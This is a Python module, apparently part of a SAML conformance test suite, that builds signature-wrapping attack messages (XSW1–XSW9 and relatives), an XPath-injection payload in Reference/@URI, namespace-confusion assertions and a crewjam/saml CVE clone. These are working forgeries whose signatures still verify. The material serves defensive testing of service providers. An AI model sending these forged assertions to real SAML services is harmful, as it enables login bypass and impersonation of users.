"""Builders of the signature-wrapping variants (saml-attacks.md §2): the signed bytes are moved,
copied or wrapped, never re-serialised, so each carries a signature that still verifies."""

from __future__ import annotations

import base64

from idp.saml.builder import new_id
from idp.saml.constants import NS
from sp_fixtures.attacks.catalogue import Attack
from sp_fixtures.attacks.errors import GeneratorError
from sp_fixtures.attacks.surgery import (
    Document,
    Node,
    Splice,
    after,
    append,
    before,
    delete,
    replace,
    set_attribute,
    set_text,
)
from sp_fixtures.attacks.workshop import Built, Workshop, builder, id_splice

SAMLP_EXTENSIONS = (b"<samlp:Extensions>", b"</samlp:Extensions>")
DS_OBJECT = (b"<ds:Object>", b"</ds:Object>")
BOGUS_DIGEST = base64.b64encode(b"This is skipped; only the first signature is verified")


def wrap(content: bytes, tags: tuple[bytes, bytes]) -> bytes:
    """Return ``content`` between an opening and a closing tag."""
    return tags[0] + content + tags[1]


def _parts(doc: Document) -> tuple[Node, Node, Node | None, Node | None]:
    """Return the Response, its Assertion and their Signatures."""
    response = doc.root
    assertion = response.find((NS.SAML, "Assertion"))
    return (
        response,
        assertion,
        response.child(NS.DS, "Signature"),
        assertion.child(NS.DS, "Signature"),
    )


def _required(node: Node | None, what: str) -> Node:
    if node is None:
        raise GeneratorError(f"the baseline has no {what}")
    return node


def _built(w: Workshop, attack: Attack, *documents: bytes) -> Built:
    return Built(documents=documents, seen_if_accepted=w.seen(attack))


# --- signed Response: XSW1, XSW2 and relatives ---------------------------------------------


def _evil_outer_response(w: Workshop, doc: Document) -> list[Splice]:
    """Edits that give the outer Response a new ID and the evil assertion values."""
    response, assertion, _, _ = _parts(doc)
    return [id_splice(response, new_id()), *w.evil_splices(doc, assertion)]


@builder("xsw1", "xsw1-ds-object")
def xsw1(w: Workshop, attack: Attack) -> Built:
    """Copy the signed Response into its own Signature; the outer one turns evil."""
    doc = w.baseline("response")
    response, _, signature, _ = _parts(doc)
    copy = w.clean_copy(doc, response)
    if attack.form == "schema-valid":
        copy = wrap(copy, DS_OBJECT)
    edits = [
        append(_required(signature, "Response signature"), copy),
        *_evil_outer_response(w, doc),
    ]
    return _built(w, attack, doc.render(edits))


@builder("xsw2", "xsw2-extensions")
def xsw2(w: Workshop, attack: Attack) -> Built:
    """Put a copy of the signed Response beside its Signature; the outer one turns evil."""
    doc = w.baseline("response")
    response, _, signature, _ = _parts(doc)
    signature = _required(signature, "Response signature")
    copy = w.clean_copy(doc, response)
    placed = (
        after(signature, wrap(copy, SAMLP_EXTENSIONS))
        if attack.form == "schema-valid"
        else before(signature, copy)
    )
    return _built(w, attack, doc.render([placed, *_evil_outer_response(w, doc)]))


@builder("xsw-status-detail")
def xsw_status_detail(w: Workshop, attack: Attack) -> Built:
    """Copy the whole signed Response into StatusDetail; the outer one turns evil."""
    doc = w.baseline("response")
    status = doc.root.find((NS.SAMLP, "Status"))
    detail = wrap(doc.bytes_of(doc.root), (b"<samlp:StatusDetail>", b"</samlp:StatusDetail>"))
    return _built(w, attack, doc.render([append(status, detail), *_evil_outer_response(w, doc)]))


@builder("xsw-first-signature-response")
def xsw_first_signature_response(w: Workshop, attack: Attack) -> Built:
    """Wrap the signed Response in an evil one that carries a bogus first signature."""
    doc = w.baseline("response")
    response, assertion, signature, _ = _parts(doc)
    signature = _required(signature, "Response signature")
    evil_id = new_id()
    digest = signature.find((NS.DS, "SignedInfo"), (NS.DS, "Reference"), (NS.DS, "DigestValue"))
    reference = signature.find((NS.DS, "SignedInfo"), (NS.DS, "Reference"))
    edits = [
        id_splice(response, evil_id),
        *w.evil_splices(doc, assertion),
        set_text(digest, BOGUS_DIGEST),
        set_attribute(reference, "URI", b"#" + evil_id.encode()),
        append(response, doc.bytes_of(response)),
    ]
    return _built(w, attack, doc.render(edits))


@builder("xsw-response-id-changed")
def xsw_response_id_changed(w: Workshop, attack: Attack) -> Built:
    """Change the signed Response's ID and put the evil values in its assertion."""
    doc = w.baseline("response")
    return _built(w, attack, doc.render(_evil_outer_response(w, doc)))


# --- signed Assertion: XSW3–XSW8 and relatives ---------------------------------------------


@builder("xsw3")
def xsw3(w: Workshop, attack: Attack) -> Built:
    """Insert an unsigned evil assertion before the signed one."""
    doc = w.baseline("assertion")
    _, assertion, _, _ = _parts(doc)
    return _built(w, attack, doc.render([before(assertion, w.evil_copy(doc, assertion, new_id()))]))


@builder("xsw4", "xsw4-advice")
def xsw4(w: Workshop, attack: Attack) -> Built:
    """Wrap the untouched signed assertion inside an evil one (in Advice, schema-valid)."""
    doc = w.baseline("assertion")
    _, assertion, _, _ = _parts(doc)
    original = doc.bytes_of(assertion)
    if attack.form == "schema-valid":
        conditions = assertion.find((NS.SAML, "Conditions"))
        inner = after(conditions, wrap(original, (b"<saml:Advice>", b"</saml:Advice>")))
    else:
        inner = append(assertion, original)
    evil = w.evil_copy(doc, assertion, new_id(), [inner])
    return _built(w, attack, doc.render([replace(assertion, evil)]))


def _evil_in_place(
    w: Workshop, doc: Document, assertion: Node, new_assertion_id: str | None
) -> list[Splice]:
    edits = w.evil_splices(doc, assertion)
    if new_assertion_id is not None:
        edits.append(id_splice(assertion, new_assertion_id))
    return edits


@builder("xsw5")
def xsw5(w: Workshop, attack: Attack) -> Built:
    """Turn the signed assertion evil in place (new ID); append a clean copy to the Response."""
    doc = w.baseline("assertion")
    response, assertion, _, _ = _parts(doc)
    copy = w.clean_copy(doc, assertion)
    edits = [*_evil_in_place(w, doc, assertion, new_id()), append(response, copy)]
    return _built(w, attack, doc.render(edits))


@builder("xsw6", "xsw6-ds-object", "xsw8", "xsw8-ds-object")
def xsw6_xsw8(w: Workshop, attack: Attack) -> Built:
    """Turn the assertion evil in place; hide a clean copy inside its own Signature.

    XSW6 gives the evil assertion a new ID; XSW8 keeps it and wraps the copy in ``Object``.
    """
    doc = w.baseline("assertion")
    _, assertion, _, signature = _parts(doc)
    signature = _required(signature, "Assertion signature")
    copy = w.clean_copy(doc, assertion)
    xsw8 = attack.id.startswith("xsw8")
    if xsw8:
        copy = wrap(
            copy, DS_OBJECT if attack.form == "schema-valid" else (b"<Object>", b"</Object>")
        )
    elif attack.form == "schema-valid":
        copy = wrap(copy, DS_OBJECT)
    edits = [
        *_evil_in_place(w, doc, assertion, None if xsw8 else new_id()),
        append(signature, copy),
    ]
    return _built(w, attack, doc.render(edits))


@builder("xsw7", "xsw7-samlp-extensions")
def xsw7(w: Workshop, attack: Attack) -> Built:
    """Put an evil copy with the same ID in an Extensions wrapper; the original is untouched."""
    doc = w.baseline("assertion")
    response, assertion, _, _ = _parts(doc)
    evil = w.evil_copy(doc, assertion, None)
    if attack.form == "schema-valid":
        placed = after(response.find((NS.SAML, "Issuer")), wrap(evil, SAMLP_EXTENSIONS))
    else:
        placed = before(assertion, wrap(evil, (b"<Extensions>", b"</Extensions>")))
    return _built(w, attack, doc.render([placed]))


@builder("xsw-hidden-in-extensions")
def xsw_hidden_in_extensions(w: Workshop, attack: Attack) -> Built:
    """Move the signed assertion into samlp:Extensions; an evil copy takes its place."""
    doc = w.baseline("assertion")
    response, assertion, _, _ = _parts(doc)
    hidden = after(
        response.find((NS.SAML, "Issuer")), wrap(doc.bytes_of(assertion), SAMLP_EXTENSIONS)
    )
    evil = replace(assertion, w.evil_copy(doc, assertion, new_id()))
    return _built(w, attack, doc.render([hidden, evil]))


@builder("xsw-concealed-wrapper")
def xsw_concealed_wrapper(w: Workshop, attack: Attack) -> Built:
    """Keep the Signature in the now-evil assertion; hide a clean copy in <XSW_ATTACK>."""
    doc = w.baseline("assertion")
    _, assertion, _, _ = _parts(doc)
    hidden = after(
        assertion, wrap(w.clean_copy(doc, assertion), (b"<XSW_ATTACK>", b"</XSW_ATTACK>"))
    )
    return _built(w, attack, doc.render([*_evil_in_place(w, doc, assertion, new_id()), hidden]))


@builder("xsw-first-signature-assertion")
def xsw_first_signature_assertion(w: Workshop, attack: Attack) -> Built:
    """Wrap the signed assertion in an evil one carrying a bogus first signature."""
    doc = w.baseline("assertion")
    _, assertion, _, signature = _parts(doc)
    signature = _required(signature, "Assertion signature")
    evil_id = new_id()
    reference = signature.find((NS.DS, "SignedInfo"), (NS.DS, "Reference"))
    edits = [
        *_evil_in_place(w, doc, assertion, evil_id),
        set_text(reference.find((NS.DS, "DigestValue")), BOGUS_DIGEST),
        set_attribute(reference, "URI", b"#" + evil_id.encode()),
        append(assertion, doc.bytes_of(assertion)),
    ]
    return _built(w, attack, doc.render(edits))


@builder("xsw9-two-signedinfo")
def xsw9(w: Workshop, attack: Attack) -> Built:
    """Sign the evil assertion with a throw-away key; put the genuine SignedInfo first."""
    doc = w.baseline("assertion")
    _, assertion, _, signature = _parts(doc)
    signature = _required(signature, "Assertion signature")
    genuine = doc.bytes_of(signature.find((NS.DS, "SignedInfo"))) + doc.bytes_of(
        signature.find((NS.DS, "SignatureValue"))
    )
    forged = w.issue("assertion", evil=True, key=w.attacker_key)
    _, forged_assertion, _, forged_signature = _parts(forged)
    forged_signed_info = _required(forged_signature, "signature").find((NS.DS, "SignedInfo"))
    wrapper = wrap(doc.bytes_of(assertion), (b"<Wrapper>", b"</Wrapper>"))
    edits = [before(forged_signed_info, genuine), after(forged_assertion, wrapper)]
    return _built(w, attack, forged.render(edits))


@builder("xsw-second-assertion-appended")
def xsw_second_assertion(w: Workshop, attack: Attack) -> Built:
    """Append a stripped evil clone, ID + ``_attack`` (crewjam/saml CVE-2022-41912)."""
    doc = w.baseline("assertion")
    _, assertion, _, _ = _parts(doc)
    clone = w.evil_copy(doc, assertion, doc.attribute(assertion, "ID") + "_attack")
    return _built(w, attack, doc.render([after(assertion, clone)]))


@builder("xsw-signature-after-content")
def xsw_signature_after_content(w: Workshop, attack: Attack) -> Built:
    """Move the untouched assertion Signature to the end of the assertion."""
    doc = w.baseline("assertion")
    _, assertion, _, signature = _parts(doc)
    signature = _required(signature, "Assertion signature")
    edits = [delete(signature), append(assertion, doc.bytes_of(signature))]
    return _built(w, attack, doc.render(edits))


@builder("xpath-injection-reference-uri")
def xpath_injection(w: Workshop, attack: Attack) -> Built:
    """Put an XPath-injection payload in Reference/@URI (ruby-saml response_eval)."""
    doc = w.baseline("assertion")
    _, assertion, _, signature = _parts(doc)
    reference = _required(signature, "Assertion signature").find(
        (NS.DS, "SignedInfo"), (NS.DS, "Reference")
    )
    payload = b"#x'] or eval('1') or /[@ID='v"
    return _built(
        w,
        attack,
        doc.render([set_attribute(reference, "URI", payload), *w.evil_splices(doc, assertion)]),
    )


@builder("assertion-prefix-rebound", "assertion-default-namespace")
def namespace_confusion(w: Workshop, attack: Attack) -> Built:
    """Insert an evil assertion whose name only looks like, or only is, saml:Assertion."""
    doc = w.baseline("assertion")
    _, assertion, _, _ = _parts(doc)
    tag_end = assertion.start + len(b"<saml:Assertion")
    if attack.id == "assertion-prefix-rebound":
        extra = [Splice(tag_end, tag_end, b' xmlns:saml="urn:attacker:assertion"')]
    else:
        declaration = f' xmlns="{NS.SAML}"'.encode()
        extra = [
            Splice(assertion.start, tag_end, b"<Assertion" + declaration),
            Splice(assertion.content_end, assertion.end, b"</Assertion>"),
        ]
    return _built(
        w, attack, doc.render([before(assertion, w.evil_copy(doc, assertion, new_id(), extra))])
    )
